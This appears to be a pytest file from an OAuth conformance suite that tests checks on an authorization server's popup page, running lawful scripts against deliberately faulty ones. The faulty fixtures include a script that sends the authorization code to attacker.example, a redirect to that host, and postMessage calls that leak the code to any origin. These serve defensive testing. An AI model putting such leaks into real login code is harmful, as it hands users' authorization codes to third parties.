"""The popup checks against servers whose popups do other things, lawful and not."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace
from functools import partial

import pytest

from conformance.checks import catalogue
from conformance.checks.catalogue import Check, CheckCase
from conformance.checks.popup import holds_code, played, returns_without
from conformance.contract import Contract, find, load
from conformance.reference import Decisions, create_app
from conformance.reference.call import Call
from conformance.reference.parameters import Parameters
from conformance.reference.records import Issued
from conformance.reference.sessions import AuthorizationRequest
from conformance.targets import Service
from conformance.targets.browser.chromium import Chromium
from conformance.targets.live import LiveTarget, start, start_in_process
from conformance.targets.startup.embedded import settings_for
from conformance.verdict import Judgement, Outcome, judge
from conformance.verdict.exit import BROWSER

Observe = Callable[[str, object], None]
PASS, VIOLATION, INCONCLUSIVE = Outcome.PASS, Outcome.VIOLATION, Outcome.INCONCLUSIVE

BY_BROWSER = ("opener", "own-window", "without-display", "foreign-opener", "code", "no-opener")
ALL = ("page", "static", *BY_BROWSER)

# What the scripts below begin with: where the server's own page leads, and the code in it.
FOUND = """
const target = document.getElementById("return").href;
const code = new URL(target).searchParams.get("code");
const home = new URL(target).origin;
"""


@pytest.fixture(scope="module")
def contract() -> Contract:
    """Return the contract of the page."""
    return load(find("kitchenmonki"))


def scripted(script: str) -> Decisions:
    """Return decisions of a server whose popup runs another script."""

    class Scripted(Decisions):
        def popup_script(self, call: Call) -> str:
            del call
            return FOUND + script

    return Scripted()


def judged(
    live: LiveTarget,
    chromium: Chromium | None,
    *names: str,
    observe: Observe = lambda _name, _value: None,
) -> dict[str, Judgement]:
    """Judge a target by some of the popup checks."""
    live.chromium = chromium or live.chromium
    service = Service(live, observe=observe)
    checks = catalogue.checks()
    return {name: judge(partial(run, checks[f"popup.{name}"], service)) for name in names}


def run(check: Check, service: Service) -> None:
    """Run a check, with what a browser plays for it now."""
    CheckCase(check)(service, played(service, check.scene(service)) if check.scene else None)


def outcomes(
    contract: Contract, chromium: Chromium | None, decisions: Decisions, *names: str
) -> dict[str, Outcome]:
    """Return what came of some of the popup checks against a server."""
    found = judged(start_in_process(contract, decisions), chromium, *names)
    return {name: one.outcome for name, one in found.items()}


class Ignored(Decisions):
    """The popup is answered like any other window."""

    def uses_popup(self, call: Call) -> bool:
        """Take no request for one of a popup."""
        del call
        return False


class Always(Decisions):
    """Every request is answered like a popup."""

    def uses_popup(self, call: Call) -> bool:
        """Take every request for one of a popup."""
        del call
        return True


class Refused(Decisions):
    """A request for the popup ends on an error page."""

    def readable(self, call: Call, parameters: Parameters) -> bool:
        """Refuse what asks for a popup."""
        return super().readable(call, parameters) and not self.uses_popup(call)


class Unasked(Decisions):
    """A request for the popup is answered with an error, on a page, before anybody is asked."""

    def response_type_served(self, call: Call, response_type: str) -> bool:
        """Refuse what asks for a popup."""
        return super().response_type_served(call, response_type) and not self.uses_popup(call)


class WithoutCode(Decisions):
    """The answer to a popup lacks the code."""

    def granted_members(
        self, call: Call, asked: AuthorizationRequest, code: Issued
    ) -> dict[str, str]:
        """Leave the code out."""
        members = super().granted_members(call, asked, code)
        return {"session": "here"} if asked.popup else members


class Severed(Decisions):
    """The pages let go of their opener."""

    def page_headers(self, call: Call, script: str = "") -> dict[str, str]:
        """Ask the browser to separate the windows."""
        cut = {"Cross-Origin-Opener-Policy": "same-origin"}
        return {**super().page_headers(call, script), **cut}


class Hijacked(Decisions):
    """The browser is sent to a stranger."""

    def return_uri(self, call: Call, asked: AuthorizationRequest) -> str:
        """Return a stranger's page."""
        del call, asked
        return "https://attacker.example/"


# Lawful scripts, and how the code comes by each.
LAWFUL = {
    "replaces": ("opener.location.replace(target); close();", "navigation"),
    "stays": ("opener.location.href = target;", "navigation"),
    "hesitates": ("setTimeout(() => { opener.location = target; }, 1500);", "navigation"),
    "message": ("opener.postMessage({kind: 'answer', code}, home); close();", "message"),
    "text": ("opener.postMessage(code, home); close();", "message"),
    "json": ("opener.postMessage(JSON.stringify({code}), home);", "message"),
    "query": ("opener.postMessage(target, home); close();", "message"),
}

# A popup that does something wrong, and what comes of the checks that have to see it.
WRONG: dict[str, tuple[Decisions, dict[str, Outcome]]] = {
    "ignored": (
        Ignored(),
        {"static": VIOLATION, "opener": VIOLATION, "own-window": VIOLATION, "code": PASS},
    ),
    "refused": (Refused(), {"page": VIOLATION, "opener": INCONCLUSIVE}),
    "unasked": (Unasked(), {"page": VIOLATION}),
    "always": (Always(), {"without-display": VIOLATION, "opener": INCONCLUSIVE}),
    "no code": (
        WithoutCode(),
        {"static": INCONCLUSIVE, "opener": VIOLATION, "own-window": INCONCLUSIVE},
    ),
    "severed": (Severed(), {"opener": VIOLATION}),
    "own window": (
        scripted("location = target;"),
        {"opener": VIOLATION, "own-window": VIOLATION, "static": INCONCLUSIVE},
    ),
    "both windows": (
        scripted("opener.location = target; location = target;"),
        {"opener": PASS, "own-window": VIOLATION},
    ),
    "wrong path": (
        scripted("opener.location = new URL('/elsewhere?code=' + code, target); close();"),
        {"opener": VIOLATION},
    ),
    "wrong payload": (
        scripted("opener.postMessage({type: 'ready'}, home); close();"),
        {"opener": VIOLATION, "own-window": INCONCLUSIVE, "code": INCONCLUSIVE},
    ),
    "wrong code": (
        scripted("opener.location = target.replace(code, code.slice(0, -9)); close();"),
        {"opener": PASS, "code": VIOLATION},
    ),
    "message to all": (
        scripted("opener.postMessage({code}, '*'); close();"),
        {"opener": PASS, "foreign-opener": VIOLATION, "own-window": PASS},
    ),
    "text to all": (
        scripted("opener.postMessage(code, '*'); close();"),
        {"foreign-opener": VIOLATION},
    ),
    "error loop": (
        scripted("if (!opener) setInterval(() => { throw new Error(); }, 5);"),
        {"no-opener": VIOLATION},
    ),
    "endless script": (scripted("while (!opener) {}"), {"no-opener": VIOLATION}),
    "hijacked": (Hijacked(), {"foreign-opener": VIOLATION}),
    "told to a stranger": (
        scripted("if (!opener) location = 'https://attacker.example/?code=' + code;"),
        {"no-opener": VIOLATION},
    ),
}


def test_a_lawful_popup_passes(contract: Contract, chromium: Chromium) -> None:
    """The reference server's popup passes every check, over a socket."""
    with start(None, contract) as live:
        found = judged(live, chromium, *ALL)
    assert {name: one.reason for name, one in found.items()} == dict.fromkeys(ALL, "")


@pytest.mark.parametrize(("script", "how"), LAWFUL.values(), ids=LAWFUL)
def test_every_lawful_way_passes(
    contract: Contract, chromium: Chromium, script: str, how: str
) -> None:
    """The code may come by navigation or message, in any shape, at once or later (KMA-22)."""
    names = ("opener", "foreign-opener")
    live = start_in_process(contract, scripted(f"if (opener) {{ {script} }}"))
    observed: dict[str, object] = {}
    found = judged(live, chromium, *names, observe=observed.__setitem__)
    assert {name: one.reason for name, one in found.items()} == dict.fromkeys(names, "")
    assert observed["popup.delivery"] == how


def test_a_callback_passes(contract: Contract, chromium: Chromium) -> None:
    """Where client and server share an origin, the popup may call a function of its opener."""
    settings = settings_for(contract)
    near = [replace(one, redirect_uri="http://127.0.0.1:1/back") for one in settings.clients]
    decisions = scripted("window.opener.onAnswer(code); close();")
    application = create_app(replace(settings, clients=tuple(near)), decisions=decisions)
    live = start_in_process(contract, application=application)
    found = judged(live, chromium, "opener", "own-window", "code")
    assert {one.outcome for one in found.values()} == {PASS}


@pytest.mark.parametrize(("decisions", "expected"), WRONG.values(), ids=WRONG)
def test_a_wrong_popup_is_found(
    contract: Contract, chromium: Chromium, decisions: Decisions, expected: dict[str, Outcome]
) -> None:
    """Each check is red where it has to be, and says nothing where it cannot know."""
    assert outcomes(contract, chromium, decisions, *expected) == expected


def test_the_contract_names_the_parameter(contract: Contract, chromium: Chromium) -> None:
    """Another contract may ask for the popup by another parameter, or know none."""
    other = replace(contract, popup=("window", "small"))
    found = outcomes(other, chromium, Decisions(), "static", "opener", "without-display")
    assert set(found.values()) == {PASS}
    found = outcomes(replace(contract, popup=None), chromium, Decisions(), *ALL)
    assert set(found.values()) == {Outcome.NOT_APPLICABLE}


def test_what_a_target_cannot_do_is_said(contract: Contract) -> None:
    """A target without a popup, or whose consent is a command's, is not judged, and not green."""
    live = start_in_process(contract)
    live.file = live.file.model_copy(update={"features": {"popup": False}})
    without = judged(live, None, *ALL)
    assert {one.precondition for one in without.values()} == {"popup"}
    live = start_in_process(contract)
    consent = live.file.consent.model_copy(update={"driver": "command"})
    live.file = live.file.model_copy(update={"consent": consent})
    assert judged(live, None, "own-window")["own-window"].precondition == "user_login"


def test_without_a_browser_nothing_is_judged(
    contract: Contract, monkeypatch: pytest.MonkeyPatch
) -> None:
    """On a machine without a browser the checks say so, under the name that a run accepts."""
    monkeypatch.setenv("CONFORMANCE_BROWSER", "/no/such/browser")
    live = start_in_process(contract)
    found = judged(live, None, *BY_BROWSER)
    live.close()
    assert {(one.outcome, one.precondition) for one in found.values()} == {(INCONCLUSIVE, BROWSER)}
    assert "it needs a browser" in found["opener"].reason


@pytest.mark.parametrize(
    ("page", "holds"),
    [
        ('opener.location = "https://a.example/?state=s\\u0026code=abcdefgh"', True),
        ("opener.location = 'https://a.example/?state=s\\x26code=abcdefgh'", True),
        ('<a href="https://a.example/?code=abcdefgh">', True),
        ('opener.postMessage({"code": "abcdefgh"})', True),
        ('opener.location = "https://a.example/?zip\\u0065code=abcdefgh"', False),
    ],
)
def test_a_code_is_found_however_a_script_writes_it(page: str, *, holds: bool) -> None:
    """A server that writes JSON for HTML escapes the ampersand before it."""
    assert holds_code(page) is holds


@pytest.mark.parametrize(
    ("page", "lost"),
    [
        ('<a href="https://app.example/back?code=x1y2">', True),
        ('<a href="https://app.example/back?iss=a&amp;code=x1y2">', True),
        ('opener.location = "https:\\/\\/app.example\\/back?a=1\\u0026code=x1y2"', True),
        ('<a href="https://app.example/back?code=x1y2&amp;state=s7s7">', False),
        ('<a href="https://app.example/back?code=x1y2"><i data-state="s7s7">', False),
        ('opener.postMessage({code: "x1y2"}, "https://app.example")', False),
        ('<a href="https://app.example/back">home</a><b data-code="x1y2">', False),
    ],
)
def test_a_state_is_owed_where_the_redirect_uri_holds_a_code(page: str, *, lost: bool) -> None:
    """What a message to the opener holds beside the code no document says (KMA-22)."""
    assert returns_without(page, "https://app.example/back", "s7s7") is lost


def test_a_page_of_nothing_but_addresses_is_read_to_its_end() -> None:
    """A hostile page, which repeats the redirect_uri without an end, does not keep a run busy."""
    home = "https://app.example/back"
    assert not returns_without(f"{home}?a=b&" * 30_000, home, "s7s7")
